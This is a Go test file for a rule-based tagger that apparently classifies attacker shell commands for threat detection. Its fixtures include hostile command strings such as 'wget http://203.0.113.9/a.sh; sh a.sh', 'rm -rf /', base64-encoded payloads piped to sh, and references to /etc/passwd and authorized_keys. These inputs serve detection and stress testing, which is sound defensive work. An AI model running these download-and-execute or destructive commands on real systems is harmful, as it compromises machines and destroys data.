package tagger

import (
	"reflect"
	"strings"
	"sync"
	"testing"

	"github.com/ttpcron/ttpcron"
)

var loadEmbedded = sync.OnceValue(func() *RuleSet {
	rs, _ := Load(Options{Folders: []Folder{{Name: "embedded", FS: Embedded()}}, Releases: []AttackRelease{{Name: "enterprise-v18.1"}}})
	return rs
})

func commandEvent(text string) *ttpcron.Event {
	return &ttpcron.Event{Kind: ttpcron.Command, ID: "e", AttackerIP: "203.0.113.1", Payload: ttpcron.TextPayload("command_text", text)}
}

func rulesOf(tags []ttpcron.Tag) (ids []string) {
	for _, t := range tags {
		if n := len(ids); n == 0 || ids[n-1] != t.RuleID {
			ids = append(ids, t.RuleID)
		}
	}
	return ids
}

// hostile are texts made to cost as much as they can.
func hostile(size int) map[string]string {
	rep := func(s string) string { return strings.Repeat(s, size/len(s)) }
	return map[string]string{
		"letters":       rep("a"),
		"blanks":        rep(" "),
		"commands":      rep("wget x;"),
		"many programs": rep("wget x|sh;curl y>/tmp/z;rm -rf /;"),
		"substitutions": rep("$("),
		"quotes":        rep(`"'`),
		"backquotes":    rep("`"),
		"flags":         "wget " + rep("-a -b "),
		"one argument":  "curl " + rep("x"),
		"slashes":       rep("/"),
		"base64":        "echo " + rep("d2dldCBodHRwOi8v") + "|base64 -d|sh",
		"escapes":       `echo -e "` + rep(`\x77`) + `"|sh`,
		"not UTF-8":     rep("\xff\xe2"),
		"nul":           rep("\x00"),
		"words":         rep("wget curl chmod /etc/passwd crontab authorized_keys base64 "),
		"braces":        rep("{a,b}"),
		"here":          "cat <<E\n" + rep("x y z\n"),
		"semicolons":    rep(";"),
		"assignments":   rep("A=$A$A;"),
	}
}

// TestHostile: nothing crashes and everything ends; BenchmarkHostile says how fast.
func TestHostile(t *testing.T) {
	c := loadEmbedded().Tagger(func(_ ttpcron.Event, rule string, err error) { t.Errorf("%s: %v", rule, err) })
	for _, text := range hostile(1 << 18) {
		c.Tag(commandEvent(text), nil)
	}
}

// panicking is a check that fails on every event.
type panicking struct{}

func (panicking) holds(*evaluation) bool { panic("out of order") }

// TestPanic: a rule that fails loses only its own tags, and the verdict is not remembered
// as complete.
func TestPanic(t *testing.T) {
	rs, _ := Load(Options{Folders: []Folder{{Name: "embedded", FS: Embedded()}}})
	const text = "wget http://203.0.113.9/a.sh; sh a.sh"
	want := rulesOf(tagsOf(rs.Tagger(nil), text))
	if len(want) < 2 {
		t.Fatalf("only %v match", want)
	}
	k := rs.ready().kinds[ttpcron.Command]
	for _, r := range k.rules {
		if r.ID == want[0] {
			r.check.is = panicking{}
		}
	}
	warned := 0
	c := rs.Tagger(func(e ttpcron.Event, rule string, err error) {
		warned++
		if e.ID != "e" || rule != want[0] || err.Error() != "rule failed on this event: out of order" {
			t.Errorf("%v %q %v", e, rule, err)
		}
	})
	for range 2 {
		if got := rulesOf(tagsOf(c, text)); !reflect.DeepEqual(got, want[1:]) {
			t.Errorf("got %v, want %v", got, want[1:])
		}
	}
	if warned != 2 {
		t.Errorf("warned %d times of 2", warned)
	}
}

func tagsOf(c *Composite, text string) []ttpcron.Tag {
	tags, _ := c.Tag(commandEvent(text), nil)
	return tags
}

// TestCache: the cache stays within its limits and keeps everything that is used.
func TestCache(t *testing.T) {
	var c cache
	hot, v := "hot", &verdict{}
	c.put(hot, v)
	for i := range 5 * cacheEntries {
		c.put(strings.Repeat("x", i%50)+"-"+itoa(i), &verdict{})
		if i%1000 == 0 && c.get(hot) != v {
			t.Fatalf("forgotten after %d", i)
		}
		if len(c.young) > cacheEntries || len(c.old) > cacheEntries {
			t.Fatalf("%d and %d entries", len(c.young), len(c.old))
		}
	}
	c.put("failed", &verdict{failed: true})
	c.put(strings.Repeat("y", cacheText+1), &verdict{})
	if c.get("failed") != nil || c.get(strings.Repeat("y", cacheText+1)) != nil {
		t.Error("kept what must not be kept")
	}
	big := strings.Repeat("z", cacheText-10)
	for i := range 300 {
		c.put(big+itoa(i), &verdict{})
	}
	if c.bytes > cacheBytes+3*cacheText {
		t.Errorf("%d bytes", c.bytes)
	}
}

// TestTagAllocations: a known text that matches nothing allocates no memory.
func TestTagAllocations(t *testing.T) {
	c := loadEmbedded().Tagger(nil)
	e := commandEvent("linuxshell")
	var dst []ttpcron.Tag
	if dst, _ = c.Tag(e, dst); len(dst) > 0 {
		t.Fatalf("matches %v", rulesOf(dst))
	}
	if n := testing.AllocsPerRun(100, func() { dst, _ = c.Tag(e, dst[:0]) }); n > 0 {
		t.Errorf("%v allocations", n)
	}
}
